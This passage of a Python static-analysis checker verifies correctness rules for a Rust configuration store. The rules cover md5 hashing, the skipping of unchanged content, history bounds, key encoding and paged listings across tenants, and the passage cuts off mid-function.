            tp = Taint(b, local_src=[l for l in params if b.local_name(l) == 'md5'])
            if b.trait == 'std::clone::Clone':
                # derived Clone: md5 and content both copied from the same source value
                same = cfg.origin_fields(b, o)[-1:] == ['md5'] and cfg.origin_fields(b, rv['ops'][rv['fields'].index('content')])[-1:] == ['content']
                ck.require(same, 'R09b', '%s:clone-copies-both' % b.name, b.where(i), 'Clone of ConfigValue does not copy content and md5 from the source')
                continue
            ck.require(md5_ok(b, o) or tp.op_tainted(o), 'R09b', '%s:new.md5<-get_md5' % b.name, b.where(i), 'a new ConfigValue gets an md5 that is not get_md5(..)')
    ck.floor('R09b', 'functions writing content/md5', n, 5)
    # get_md5 argument is the content in the helper constructors
    for fn in ('new', 'init', 'update_value'):
        b = ck.body(CV + fn, 'R09b')
        if b:
            gm = b.calls(r'utils::get_md5$')
            cl = [l for l in range(1, b.argc + 1) if b.local_name(l) == 'content']
            t = Taint(b, local_src=cl)
            ck.require(len(gm) >= 1 and all(t.op_tainted(_x.args[0]) for _x in gm), 'R09b', 'ConfigValue::%s:get_md5(content)' % fn, b.where(), 'get_md5 is not applied to the content parameter')
    sc = ck.body(CA + 'set_config', 'R09b')
    if sc:
        gm = sc.calls(r'utils::get_md5$')
        t = Taint(sc, place_src=field_place_src('value'))
        ck.require(len(gm) >= 1 and all(t.op_tainted(_x.args[0]) for _x in gm), 'R09b', 'set_config:get_md5(param.value)', sc.where(), 'set_config does not hash the published value')
        uv = sc.calls(re.escape(CV + 'update_value') + '$')
        ck.require(len(uv) >= 1, 'R09b', 'set_config:update_value', sc.where(), 'existing values are not updated through update_value')
        for s in uv:
            ck.require(t.op_tainted(s.args[1]) and md5_ok(sc, s.args[4]), 'R09b', 'set_config:update_value(value,md5(value))', s.where(),
                       'update_value is not given the published value and its md5')
    st = ck.body(CA + 'set_tmp_config', 'R09b')
    if st:
        gm = st.calls(r'utils::get_md5$')
        vl = [l for l in range(1, st.argc + 1) if st.local_name(l) == 'val']
        t = Taint(st, local_src=vl)
        nw = [x for x in st.calls(re.escape(CV) + r'(new|init)$') if x.args and t.op_tainted(x.args[0])]
        # the md5 comes from get_md5(val), or from a value built by ConfigValue::new(val) (whose own md5 R09b judges above)
        src = Taint(st, call_src=lambda term: re.search(r'utils::get_md5$|' + re.escape(CV) + r'(new|init)$', cfg.callee_name(term) or '') is not None)
        mw = [(bb, s_) for (o, f, bb, s_) in st.field_writes() if f == 'md5' and o.endswith('ConfigValue')]
        okw = all(any(src.op_tainted(o2) for o2 in rv_operands(s_['rv'])) for (bb, s_) in mw)
        ck.require((len(gm) >= 1 or len(nw) >= 1) and all(t.op_tainted(_x.args[0]) for _x in gm) and okw, 'R09b', 'set_tmp_config:get_md5(val)', st.where(),
                   'temporary value md5 is not the hash of the temporary content')


def r09c(ck, fb):
    ck.rule('R09c', 'unchanged-content short circuit: the early return in set_config is guarded by !v.tmp and md5 equality, and no '
                    'listener/subscriber notification or history update is reachable on it; the changed path reaches update_value')
    sc = ck.body(CA + 'set_config', 'R09c')
    if not sc:
        return
    uv = sc.calls(re.escape(CV + 'update_value') + '$')
    # the guard: on the path to update_value, atoms contain tmp==false & eq ... negated; we look at the early-return Ok(NULL) block
    early = []
    for (i, j, st) in sc.aggregates(r'std::result::Result$', 'Ok'):
        atoms = cfg.guard_atoms(sc, i)
        has_tmp = any(a[0] == 'field' and a[1][-1:] == ['tmp'] and a[2] is False for a in atoms)
        has_eq = any(a[0] == 'call' and re.search(r'PartialEq.*::eq$|::eq$', a[1] or '') and a[2] is True for a in atoms)
        if has_tmp or has_eq:
            early.append((i, has_tmp, has_eq, atoms))
    ck.require(len(early) == 1 and early[0][1] and early[0][2], 'R09c', 'set_config:early-return-guard', sc.where(),
               'the unchanged-content early return is not guarded by (!tmp && md5 == md5(new))', 'guarded')
    for (i, ht, he, atoms) in early:
        for a in atoms:
            if a[0] == 'call' and a[2] is True and re.search(r'::eq$', a[1] or ''):
                srcs = [cfg.strip_calls(sc, cfg.describe_operand(sc, x)) for x in a[3]['args']]
                has_md5_field = any(d['k'] == 'place' and d['fields'][-1:] == ['md5'] for d in srcs)
                has_new = any(d['k'] == 'call' and (cfg.callee_name(d['term']) or '').endswith('get_md5') for d in srcs)
                ck.require(has_md5_field and has_new, 'R09c', 'set_config:compares-md5', sc.where(a[4]), 'the equality test does not compare the stored md5 with get_md5(new value)')
        r = cfg.reach_from(sc, [i])
        notes = [s for s in sc.calls(r'ConfigListener::notify$|Subscriber::notify$|ConfigValue::update_value$') if s.bb in r]
        ck.require(not notes, 'R09c', 'set_config:early-return-is-silent', sc.where(i), 'a notification/history update is reachable from the unchanged-content return')
    for s in uv:
        vg = cfg.guard_atoms(sc, s.bb)
        ck.require(any(a[0] == 'variant' and a[2] == 'Some' for a in vg), 'R09c', 'set_config:update-existing', s.where(), 'update_value is not on the existing-key branch')
    # ... and it is the ONLY way around update_value for a key that exists: from the Some edge of the lookup every path to the return passes
    # update_value or leaves through the md5-equality edge of the unchanged-content test. Any other shortcut (same history id seen before, same
    # time stamp, ...) drops an acknowledged publish that differs in content
    look = util.mut_calls_on_field(sc, 'cache', r'HashMap::<K, V, S, A>::(get_mut|get)$')
    some_edges = util.option_edges(sc, look, 'Some')
    esc = set()
    for (s0, d0, lab0, t0) in cfg.switch_edges(sc):
        d = cfg.describe_operand(sc, t0['discr'])
        if d['k'] == 'call' and re.search(r'::eq$', cfg.callee_name(d['term']) or ''):
            srcs = [cfg.strip_calls(sc, cfg.describe_operand(sc, x)) for x in d['term']['args']]
            if any(x['k'] == 'place' and x['fields'][-1:] == ['md5'] for x in srcs) and cfg.edge_polarity(t0, lab0) is True:
                esc.add((s0, d0, lab0))
        if d['k'] == 'call' and re.search(r'::ne$', cfg.callee_name(d['term']) or ''):
            srcs = [cfg.strip_calls(sc, cfg.describe_operand(sc, x)) for x in d['term']['args']]
            if any(x['k'] == 'place' and x['fields'][-1:] == ['md5'] for x in srcs) and cfg.edge_polarity(t0, lab0) is False:
                esc.add((s0, d0, lab0))
    esc |= _applied_again_edges(fb, sc)
    leaks = []
    for (s0, d0, lab0) in some_edges:
        free = cfg.reach_from(sc, [d0], blocked_blocks={s.bb for s in uv}, blocked_edges=esc)
        leaks += [r for r in sc.return_blocks() if r in free]
    ck.require(bool(some_edges) and bool(uv) and not leaks, 'R09c', 'set_config:only-unchanged-content-skips-the-update', sc.where(leaks[0]) if leaks else sc.where(),
               'for a key that exists set_config can return without update_value on a path that is not the "same md5" return: a publish with different '
               'content is acknowledged and dropped (e.g. when two leaders drew the same history id around an election)',
               'the md5-equality return is the only way around update_value')
    r09p(ck, fb, sc, uv)


def _applied_again_edges(fb, sc):
    """switch edges taken exactly when the publish carries the APPLIED content of an entry that holds a temporary value: the decision derives
    from a comparison (eq) of an md5 with get_md5 of a history item's content - in set_config itself or in the closure handed to Option::map /
    is_some_and / map_or on `histories.last()`"""
    def cmp_call(term):
        nm = cfg.callee_name(term) or ''
        if not re.search(r'Option::<.*>::(map|is_some_and|map_or|filter)$', nm):
            return False
        for cb in util.closures_passed(fb, sc, term):
            reg = util.region(fb, cb, 1)
            if any(x.calls(r'get_md5$') for x in reg) and any(x.calls(r'::(eq|ne)$') for x in reg) and \
                    any('content' in util.read_fields(x) for x in reg):
                return True
        return False
    t = Taint(sc, call_src=cmp_call)
    th = Taint(sc, place_src=field_place_src('histories'))
    out = set()
    for (s0, d0, lab0, t0) in cfg.switch_edges(sc):
        if t.op_tainted(t0['discr']) and cfg.edge_polarity(t0, lab0) is True:
            # the compared item comes from the entry's history
            if any(cmp_call(x.term) and any(th.op_tainted(a) for a in x.args) for x in sc.sites if x.callee):
                out.add((s0, d0, lab0))
    return out


def r09p(ck, fb, sc, uv, R='R09p'):
    ck.rule(R, '"one history entry per publish that changed the content" - the content that counts is the APPLIED one: while an entry holds the '
               'temporary value of a routed publish (tmp), its content / md5 fields show that value and the applied content is the newest history '
               'item. set_config decides "no change" for a tmp entry by comparing the md5 of the publish with the md5 of that history item\'s '
               'content, and then only drops the temporary value. Without it a republish of the applied content under a temporary value pushes '
               'a history item on that follower only (log: publish A, publish A, publish B; SetTmpValue(B) in between: history [B, A, A] there, '
               '[B, A] on the leader and after a replay)')
    edges = _applied_again_edges(fb, sc)
    ck.require(bool(edges), R, 'set_config:tmp-entry-compared-with-applied-content', sc.where(),
               'for an entry that holds a temporary value set_config never compares the publish with the APPLIED content (the newest history item): a '
               'publish that repeats the applied content is recorded as a change on the node that routed another publish meanwhile, and on no other '
               'node - the same log gives different histories (leader [B, A], that follower [B, A, A])', 'compared with the newest history item')


def r09d(ck, fb):
    ck.rule('R09d', 'history bound: in update_value histories.push is preceded on every path by the test len() >= 100 whose true edge '
                    'removes index 0; init starts with exactly one item')
    b = ck.body(CV + 'update_value', 'R09d')
    if b:
        push = util.mut_calls_on_field(b, 'histories', r'Vec::<T, A>::push$')
        # the trimming may live in a helper of the same file (extract-method): judged in the body that holds it
        rms = [(x, s0) for x in util.region(fb, b, 1) for s0 in util.mut_calls_on_field(x, 'histories', r'Vec::<T, A>::remove$')]
        ck.require(len(push) == 1 and len(rms) >= 1, 'R09d', 'update_value:push+remove', b.where(), 'push/remove(0) pair not found')
        if push and rms:
            (rb, r) = rms[0]
            c = op_const(r.args[1])
            ck.require(c is not None and str(c.get('v')) == '0', 'R09d', 'update_value:removes-oldest', r.where(), 'the removed history item is not index 0 (oldest)')
            ok = False
            for a in cfg.guard_atoms(rb, r.bb):
                if a[0] == 'cmp' and a[1] in ('Ge', 'Gt') and a[4] is True:
                    k = a[3]
                    l = cfg.strip_calls(rb, a[2])
                    if k['k'] == 'const' and 'v' in k['c'] and l['k'] == 'call' and (cfg.callee_name(l['term']) or '').endswith('::len'):
                        bound = int(k['c']['v']) + (1 if a[1] == 'Gt' else 0)
                        ok = bound <= 100
                        ck.extra['history_bound'] = bound
            ck.require(ok, 'R09d', 'update_value:bound<=100', r.where(), 'the history is not trimmed when it holds 100 items (bound constant changed or guard missing)')
            # the guard is evaluated before the push on every path: the comparison block (or the call of the helper that holds it) dominates the push
            if rb is b:
                cmpb = [a[5] for a in cfg.guard_atoms(b, r.bb) if a[0] == 'cmp']
            else:
                cmpb = [s1.bb for s1 in b.sites if (s1.resolved or s1.callee) == rb.name]
            ck.require(bool(cmpb) and cfg.dominates_blocks(b, set(cmpb), push[0].bb), 'R09d', 'update_value:guard-before-push', push[0].where(), 'push can happen without the bound test')
            # pushed item carries the new content and the given id
            it = b.aggregates(r'config::model::HistoryItem$')
            ck.require(len(it) >= 1, 'R09d', 'update_value:item', b.where(), 'history item not built')
            for (i, j, st) in it:
                rv = st['rv']
                for f, pn in (('id', 'history_id'), ('content', 'content'), ('modified_time', 'op_time')):
                    t = Taint(b, local_src=[l for l in range(1, b.argc + 1) if b.local_name(l) == pn])
                    ck.require(t.op_tainted(rv['ops'][rv['fields'].index(f)]), 'R09d', 'update_value:item.%s<-%s' % (f, pn), b.where(i), 'HistoryItem.%s is not the %s parameter' % (f, pn))


def templates(b):
    """decoded format_args templates in a body: list of lists, '{}' for a placeholder, str for a literal piece"""
    out = []
    cs = [c for (bb, c) in b.consts()]
    for (i, j, st) in b.stmts():
        rv = st.get('rv')
        if rv and rv['k'] == 'use' and 'c' in rv['op']:
            cs.append(rv['op']['c'])
    seen = set()
    for c in cs:
        if 'bytes' not in c or id(c) in seen:
            continue
        seen.add(id(c))
        by = c['bytes']
        parts, k, ok = [], 0, True
        while k < len(by):
            x = by[k]
            if x == 0:
                break
            if x == 192:
                parts.append('{}')
                k += 1
            elif 1 <= x < 128 and k + x < len(by):
                parts.append(bytes(by[k + 1:k + 1 + x]).decode('latin1'))
                k += 1 + x
            else:
                ok = False
                break
        out.append(parts if ok else None)
    return out


def sep_consts(b):
    out = []
    for (bb, c) in b.consts():
        if 's' in c and '\x02' in c['s']:
            out.append(c['s'])
        if c.get('ty') == 'char' and str(c.get('v')) == '2':
            out.append('\x02')
    for pb in b.promoted:
        out += sep_consts(pb)
    return out


def r09e(ck, fb):
    ck.rule('R09e', 'key round trip: ConfigKey::build_key joins with \\x02 (2 parts when tenant is empty, else 3, in the order dataId, '
                    'group, tenant) and From<&str> splits on \\x02 taking dataId, group, tenant in that order')
    bk = ck.body(CK + '::build_key', 'R09e')
    if bk:
        tp = templates(bk)
        want = [['{}', '\x02', '{}'], ['{}', '\x02', '{}', '\x02', '{}']]
        ck.require(sorted(x for x in tp if x is not None) == sorted(want) and None not in tp, 'R09e', 'build_key:separator', bk.where(),
                   'build_key templates are %r, expected {}\\x02{} and {}\\x02{}\\x02{}' % (tp,), 'templates ok')
        ie = [s for s in bk.calls(r'String::is_empty$') if util.recv_fields(bk, s)[-1:] == ['tenant']]
        ck.require(len(ie) >= 1, 'R09e', 'build_key:tenant-empty-rule', bk.where(), 'the 2-part/3-part choice is not made on tenant.is_empty()')
        # argument order of the formatted parts: collect field reads in order of Argument::new_display calls
        order = []
        for s in sorted(bk.calls(r'Argument::<\'_>::new_display'), key=lambda s: s.bb):
            f = cfg.origin_fields(bk, s.args[0])
            # args are refs into a tuple of refs; fall back to scanning tuple aggregates
        tups = [st for (i, j, st) in bk.stmts() if st.get('rv', {}).get('k') == 'agg' and st['rv'].get('ak') == 'tuple' and len(st['rv']['ops']) in (2, 3)]
        seqs = []
        for st in tups:
            seqs.append([(cfg.origin_fields(bk, o) or ['?'])[-1] for o in st['rv']['ops']])
        ck.require(sorted(seqs) == sorted([['data_id', 'group'], ['data_id', 'group', 'tenant']]), 'R09e', 'build_key:part-order', bk.where(),
                   'build_key formats %s (expected [data_id,group] and [data_id,group,tenant])' % seqs, str(seqs))
    fr = fb.impls(r'^std::convert::From$', r'config::core::ConfigKey$', r'^&str$', 'from')
    ck.require(len(fr) >= 1, 'R09e', 'From<&str>:exists', '-', 'ConfigKey: From<&str> not found')
    for b in fr:
        ck.analysed(b)
        seps = sep_consts(b)
        ck.require(len(seps) >= 1, 'R09e', 'From<&str>:separator', b.where(), 'From<&str> does not split on \\x02')
        nx = b.calls(r'Iterator>::next$')
        nw = b.calls(re.escape(CK + '::new') + '$')
        ck.require(len(nx) == 3 and len(nw) == 1, 'R09e', 'From<&str>:three-parts', b.where(), 'From<&str> does not take three parts')
        if len(nx) == 3 and nw:
            # i-th argument of new comes from the i-th next() (by block order)
            order = sorted(nx, key=lambda s: s.bb)
            for idx, s in enumerate(order):
                t = Taint(b, local_src=[s.dst])
                ck.require(t.op_tainted(nw[0].args[idx]) and not any(t.op_tainted(nw[0].args[k]) for k in range(3) if k != idx), 'R09e',
                           'From<&str>:part%d' % idx, b.where(), 'part %d of the key string is not argument %d of ConfigKey::new' % (idx, idx))
    nk = ck.body(CK + '::new', 'R09e')
    if nk:
        for (i, j, st) in nk.aggregates(r'config::core::ConfigKey$'):
            rv = st['rv']
            for f, argi in (('data_id', 1), ('group', 2), ('tenant', 3)):
                t = Taint(nk, local_src=[argi])
                ck.require(t.op_tainted(rv['ops'][rv['fields'].index(f)]), 'R09e', 'ConfigKey::new:%s' % f, nk.where(), 'ConfigKey.%s is not parameter %d' % (f, argi))


def r09f(ck, fb):
    ck.rule('R09f', 'GET answers from one stored value: ConfigResult::Data{value,md5,config_type,desc,last_modified} are the same-named '
                    'fields (value <- content) of cache.get(key); a missing key falls through to NULL; del_config removes the key it was given')
    h = ck.body(CMD_H, 'R09f')
    if h:
        d = h.aggregates(r'config::core::ConfigResult$', 'Data')
        ck.require(len(d) == 1, 'R09f', 'GET:Data', h.where(), 'ConfigResult::Data not built exactly once')
        for (i, j, st) in d:
            rv = st['rv']
            for f, src in (('value', 'content'), ('md5', 'md5'), ('config_type', 'config_type'), ('desc', 'desc'), ('last_modified', 'last_modified')):
                got = cfg.origin_fields(h, rv['ops'][rv['fields'].index(f)])
                ck.require(got[-1:] == [src], 'R09f', 'GET:%s<-%s' % (f, src), h.where(i), 'Data.%s comes from %s, expected the stored %s' % (f, got, src))
            vg = util.variant_guards(h, i)
            ck.require(('rnacos::config::core::ConfigCmd', 'GET') in vg and ('std::option::Option', 'Some') in vg, 'R09f', 'GET:arm', h.where(i), 'Data is not built under GET / Some(v)')
    dc = ck.body(CA + 'del_config', 'R09f')
    if dc:
        rm = util.mut_calls_on_field(dc, 'cache', r'HashMap::<K, V, S, A>::remove$')
        t = Taint(dc, local_src=[2])
        ck.require(len(rm) >= 1 and all(t.op_tainted(_x.args[1]) for _x in rm), 'R09f', 'del_config:removes-key', dc.where(), 'del_config does not remove the key it was given')
        ck.require(not cfg.guard_atoms(dc, rm[0].bb) if rm else False, 'R09f', 'del_config:unconditional', dc.where(), 'the removal is conditional')


def r09g(ck, fb):
    ck.rule('R09g', 'TenantIndex keeps `size` in step with membership: size += 1 only under a true insert_config result, size -= 1 only '
                    'under a true removal; an emptied tenant is dropped; query_config_page only returns keys of the index')
    TI = 'rnacos::config::config_index::TenantIndex::'
    for fn, op, callee in (('do_insert_config', 'Add', r'ConfigIndex::insert_config$'), ('do_remove_config', 'Sub', r'ConfigIndex::remove_config$')):
        b = ck.body(TI + fn, 'R09g')
        if not b:
            continue
        ws = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'size' and o.endswith('TenantIndex')]
        ck.require(len(ws) >= 1, 'R09g', '%s:size-updated' % fn, b.where(), 'size counter not maintained')
        for (bb, st) in ws:
            atoms = cfg.guard_atoms(b, bb)
            t = Taint(b, call_src=lambda t, c=callee: bool(re.search(c, (t.get('f') or {}).get('d', ''))))
            guarded = False
            for (s, d, lab, term) in cfg.dominating_edges(b, bb):
                if t.op_tainted(term['discr']) and cfg.edge_polarity(term, lab) is True:
                    guarded = True
            ck.require(guarded, 'R09g', '%s:size-guarded' % fn, b.where(bb), 'size changes although the inner index reported no change (double insert/remove)')
    b = ck.body(TI + 'do_remove_config', 'R09g')
    if b:
        rm = util.mut_calls_on_field(b, 'tenant_group', r'BTreeMap::<K, V, A>::remove$')
        ok = False
        for s in rm:
            for a in cfg.guard_atoms(b, s.bb):
                if a[0] == 'cmp' and a[1] == 'Eq' and a[4] is True and a[3]['k'] == 'const' and str(a[3]['c'].get('v')) == '0':
                    ok = True
        ck.require(ok, 'R09g', 'do_remove_config:drop-empty-tenant', b.where(), 'a tenant entry is dropped without its group count being 0')


def r09h(ck, fb):
    ck.rule('R09h', 'listing page of one tenant (ConfigIndex::query_config_page): the returned total is a counter that starts at 0 and is only '
                    'ever incremented by exactly 1, under match_group == true AND match_data_id == true for the element at hand (no bulk adds of '
                    'set sizes, no increments outside the filters); a key is pushed only under both filters and the page window '
                    '(offset <= counter < offset+limit); pushed keys are built from the iterated (data id, group) and the tenant parameter')
    b = ck.body('rnacos::config::config_index::ConfigIndex::query_config_page', 'R09h')
    if not b:
        return
    from rn.facts import op_place, pl_local, pl_proj
    rets = [(i, j, st) for (i, j, st) in b.stmts() if st.get('d') == 0 and st.get('rv', {}).get('k') == 'agg']
    if not ck.require(len(rets) >= 1, 'R09h', 'query_config_page:returns-tuple', b.where(), 'the (total, page) result tuple was not found'):
        return

    def root_local(op, depth=0):
        pl = op_place(op)
        if pl is None or pl_proj(pl):
            return None
        l = pl_local(pl)
        ds = b.defs.get(l, [])
        if depth < 5 and len(ds) == 1 and ds[0][0] == 'stmt' and ds[0][3]['rv']['k'] == 'use':
            r = root_local(ds[0][3]['rv']['op'], depth + 1)
            return r if r is not None else l
        return l
    counters = {root_local(st['rv']['ops'][0]) for (i, j, st) in rets}
    if not ck.require(len(counters) == 1 and None not in counters, 'R09h', 'query_config_page:total-is-a-counter', b.where(), 'the total is not a single local counter'):
        return
    cnt = counters.pop()

    def both_filters(bb):
        g = d = False
        for a in cfg.guard_atoms(b, bb):
            if a[0] == 'call' and a[2] is True and (a[1] or '').endswith('ConfigQueryParam::match_group'):
                g = True
            if a[0] == 'call' and a[2] is True and (a[1] or '').endswith('ConfigQueryParam::match_data_id'):
                d = True
        return g, d
    n_inc = 0
    for kind, bb, j, node in b.defs.get(cnt, []):
        if kind != 'stmt':
            ck.bad('R09h', 'query_config_page:counter-def', b.where(bb), 'the total is assigned from a call result')
            continue
        rv = node['rv']
        if rv['k'] == 'use' and 'c' in rv['op']:
            ck.require(str(rv['op']['c'].get('v')) == '0', 'R09h', 'query_config_page:starts-at-0', b.where(bb), 'the total does not start at 0')
            continue
        # counter = move (tmp.0) where tmp = AddWithOverflow(counter, 1)
        inc = None
        src = rv.get('op') if rv['k'] == 'use' else None
        pl = op_place(src) if src else None
        if pl is not None:
            tds = b.defs.get(pl_local(pl), [])
            if len(tds) == 1 and tds[0][0] == 'stmt' and tds[0][3]['rv']['k'] == 'bin' and tds[0][3]['rv']['op'] in ('AddWithOverflow', 'Add'):
                inc = tds[0][3]['rv']
        elif rv['k'] == 'bin' and rv['op'] in ('Add', 'AddWithOverflow'):
            inc = rv
        if inc is None:
            ck.bad('R09h', 'query_config_page:counter-def', b.where(bb), 'the total is changed by something other than an increment')
            continue
        n_inc += 1
        a_is_cnt = root_local(inc['a']) == cnt
        one = 'c' in inc['b'] and str(inc['b']['c'].get('v')) == '1'
        ck.require(a_is_cnt and one, 'R09h', 'query_config_page:increments-by-one', b.where(bb),
                   'the total is advanced by something other than 1 per matching element (e.g. a whole group size is added without applying the '
                   'dataId filter to its members): the reported total disagrees with the number of matching configurations')
        g, d = both_filters(bb)
        ck.require(g and d, 'R09h', 'query_config_page:counts-only-matches', b.where(bb),
                   'the total is incremented outside match_group && match_data_id (group filter: %s, dataId filter: %s)' % (g, d))
    ck.floor('R09h', 'increments of the total', n_inc, 1)
    for s in b.calls(r'Vec::<.*>::push$'):
        g, d = both_filters(s.bb)
        win = [a for a in cfg.guard_atoms(b, s.bb) if a[0] == 'cmp' and a[1] in ('Ge', 'Lt', 'Le', 'Gt')]
        ck.require(g and d and len(win) >= 2, 'R09h', 'query_config_page:push-guarded', s.where(),
                   'a key is added to the page outside the filters / the page window')


def r09i(ck, fb):
    ck.rule('R09i', 'a committed value is not temporary: ConfigValue::update_value (the store step of every applied publish) clears the `tmp` mark on '
                    'every path to its return. set_config skips the unchanged-content short cut while tmp is set, so a mark that survives an applied '
                    'publish makes every later identical publish append a history entry and notify listeners')
    b = ck.body(CV + 'update_value', 'R09i')
    if not b:
        return
    from rn.facts import pl_proj
    ws = []
    for (i, j, st) in b.stmts():
        d = st.get('d')
        if isinstance(d, dict):
            fs = [e.get('f') for e in pl_proj(d) if isinstance(e, dict) and 'f' in e]
            rv = st.get('rv') or {}
            if fs[-1:] == ['tmp'] and rv.get('k') == 'use' and 'c' in rv.get('op', {}) and rv['op']['c'].get('v') in (False, 'false', 0):
                ws.append(i)
    ok = bool(ws) and cfg.must_pass_before_return(b, 0, set(ws))
    sc0 = fb.bodies.get(CA + 'set_config')
    if not ok and sc0 is not None and _applied_again_edges(fb, sc0):
        # since repair b169cc7 a mark that survives an applied publish does no harm: set_config compares a publish under a tmp entry with the APPLIED
        # content (R09p), so the next identical publish adds no history item and clears the mark. The clause is armed only without that comparison
        ck.ok('R09i', 'update_value:clears-tmp', b.where(), 'not on every path - harmless while set_config compares a tmp entry with the applied content (R09p)')
        return
    ck.require(ok, 'R09i', 'update_value:clears-tmp', b.where(),
               'update_value can return without clearing tmp: a key that received a routed temporary value keeps the mark after the publish was applied; '
               'republishing the same content is then treated as a change every time (duplicate history entries push real ones out of the 100-entry '
               'window, listeners are notified)', 'tmp = false on every path')


def paging_offset_rule(ck, fb, R, outer_name, inner_pat, param_pat, what):
    """a page over several partitions: the offset counts matches across ALL partitions, so the per-partition page takes the remaining offset as an
    argument (it does not read the query's offset itself) and the loop over partitions hands down a loop-carried offset"""
    from rn.facts import op_place, pl_local, pl_proj
    o = ck.body(outer_name, R)
    if not o:
        return
    inner = [b for b in fb.find(inner_pat) if not b.parent]
    if not ck.require(len(inner) >= 1, R, what + ':per-partition-page', o.where(), 'per-partition page function not found'):
        return
    reads_own = False
    for b in inner:
        ck.analysed(b)
        own = [f for (ow, f, bb, st) in b.field_reads() if f == 'offset' and re.search(param_pat, ow or '')]
        reads_own = reads_own or bool(own)
        ck.require(not own, R, what + ':partition-page-takes-offset', b.where(),
                   '%s is called once per partition by the cross-partition listing but applies the query\'s global offset to its own matches: page 2 of '
                   'a listing over two partitions skips the first items of the second partition, they are never returned although the total counts them' % b.name,
                   'offset is a parameter')

    def in_loop(bb):
        nxt = o.blocks[bb]['t'].get('t')
        return nxt is not None and bb in cfg.reach_from(o, [nxt])
    sites = [s for s in o.calls(inner_pat) if in_loop(s.bb)]
    ck.require(len(sites) >= 1, R, what + ':loop-site', o.where(), 'the loop over partitions no longer calls the per-partition page')
    if reads_own:
        return
    for s in sites:
        carried = False
        for a in s.args[1:]:
            pl = op_place(a)
            if pl is None or pl_proj(pl):
                continue
            l = pl_local(pl)
            ds = o.defs.get(l, [])
            if len(ds) == 1 and ds[0][0] == 'stmt' and ds[0][3]['rv']['k'] == 'use':      # a plain copy of the variable
                p2 = op_place(ds[0][3]['rv']['op'])
                if p2 is not None and not pl_proj(p2):
                    l = pl_local(p2)
                    ds = o.defs.get(l, [])
            inloop = [d for d in ds if d[1] in cfg.reach_from(o, [s.bb]) and s.bb in cfg.reach_from(o, [d[1]])]
            if len(ds) >= 2 and inloop and o.local_ty(l) == 'usize' and (o.locals[l].get('n') or '') != 'limit':
                carried = True
        ck.require(carried, R, what + ':offset-carried-across-partitions', s.where(),
                   'the loop over partitions does not hand a running offset (reduced by each partition\'s total) to the per-partition page')


def r09j(ck, fb):
    ck.rule('R09j', 'paging across tenants: a listing without a tenant filter applies the offset to the concatenation of all permitted tenants - '
                    'ConfigIndex::query_config_page takes the remaining offset as an argument and TenantIndex::query_config_page reduces it by each '
                    'tenant\'s total; every stored key then appears exactly once across the pages')
    paging_offset_rule(ck, fb, 'R09j', 'rnacos::config::config_index::TenantIndex::query_config_page',
                       r'config_index::ConfigIndex::query_config_page$', r'ConfigQueryParam', 'config-listing')


def r09k(ck, fb, R='R09k'):
    ck.rule(R, 'removing a key from the listing index removes that key and nothing else: in ConfigIndex::remove_config the group entry is dropped only '
               'after the dataId was really taken out of it (the HashSet::remove answer is true) and the set is empty. Dropping the group "because it '
               'holds one entry" takes a stored config out of listings and searches when a remove names another, unknown dataId of that group '
               '(the remove is accepted and applied through the log without an existence check)')
    b = ck.body('rnacos::config::config_index::ConfigIndex::remove_config', R)
    if not b:
        return
    drops = util.mut_calls_on_field(b, 'group_data', r'(HashMap::<K, V, S, A>|BTreeMap::<K, V, A>)::remove$')
    ck.floor(R, 'group_data.remove in ConfigIndex::remove_config', len(drops), 1)
    for s0 in drops:
        atoms = cfg.guard_atoms(b, s0.bb)
        removed = any(a[0] == 'call' and re.search(r'(HashSet|BTreeSet)::<.*>::remove$', a[1] or '') and a[2] is True for a in atoms)
        empty = any(a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is True for a in atoms) or \
            any(a[0] == 'cmp' and 'len' in cfg.fmt_atom(a) for a in atoms)
        ck.require(removed and empty, R, 'remove_config:group-dropped-only-when-emptied-by-this-key', s0.where(),
                   'the group entry is dropped without the dataId having been removed from it (%s): a remove of an unknown dataId takes the last stored '
                   'config of the group out of every listing' % [cfg.fmt_atom(a) for a in atoms], 'after a successful removal that left the set empty')


def r09l(ck, fb, R='R09l'):
    ck.rule(R, 'the history bound holds for every way a history list gets into the store: update_value trims before it pushes (R09d); a whole '
               'ConfigValue that was built elsewhere (full-value import entry, snapshot record: ConfigActor::inner_set_config, or the decoder '
               'From<ConfigValueDO>) is cut to the bound before it is stored - there is a shrinking call on `histories` whose length test, if it '
               'has one, fires at 100 items or fewer above the bound. An import file with 150 history items otherwise leaves a key whose history '
               'page reports 150 entries for ever (update_value removes one item per push, it never shrinks to the bound)')
    b = ck.body(CA + 'inner_set_config', R)
    if not b:
        return
    scope = list(util.region(fb, b)) + fb.impls(r'convert::From$', r'config::core::ConfigValue$', r'ConfigValueDO', 'from')
    ck.floor(R, 'bodies on the full-value path (inner_set_config region + decoder)', len(scope), 2)
    shr = []
    for x in scope:
        ck.analysed(x)
        for s0 in x.calls(r'Vec::<T, A>::(drain|truncate|remove|split_off|retain|pop|swap_remove)$|VecDeque::<T, A>::(pop_front|drain|truncate)$'):
            if 'histories' in util.recv_fields(x, s0):
                shr.append((x, s0))
    ck.require(bool(shr), R, 'full-value:history-bounded', b.where(),
               'a full value (import entry / snapshot record) is stored with whatever history it carries: nothing on the path shortens `histories`, so the '
               '"last 100" bound does not hold for an imported key', 'histories is cut before the value is stored')
    for (x, s0) in shr:
        worst = None
        for a in cfg.guard_atoms(x, s0.bb):
            if a[0] == 'cmp' and a[1] in ('Ge', 'Gt') and a[4] is True and a[3]['k'] == 'const' and 'v' in a[3]['c']:
                l = cfg.strip_calls(x, a[2])
                if l['k'] == 'call' and (cfg.callee_name(l['term']) or '').endswith('::len'):
                    worst = int(a[3]['c']['v']) + (1 if a[1] == 'Gt' else 0)
        ck.require(worst is None or worst <= 101, R, 'full-value:bound<=100', s0.where(),
                   'the imported history is only cut when it holds %s items or more: the bound of the property is 100' % worst)
        # ... and not more than needed: on the full-value path nothing is pushed afterwards, so a cut that already fires at 100 items (the
        # trimming step of update_value, which makes room for the item it is about to push) leaves 99: the oldest acknowledged entry of a
        # full history is gone after a compaction + restart or a snapshot install
        pushes_after = bool(util.mut_calls_on_field(b, 'histories', r'Vec::<T, A>::push$', deep=1))
        ck.require(worst is None or worst >= 101 or pushes_after, R, 'full-value:keeps-100', s0.where(),
                   'the history of a full value is cut as soon as it holds %s items and nothing is pushed afterwards: a key with a full history of 100 '
                   'entries comes back from a snapshot with %s' % (worst, (worst or 1) - 1), 'cut only above 100 items')


def r09m(ck, fb, R='R09m'):
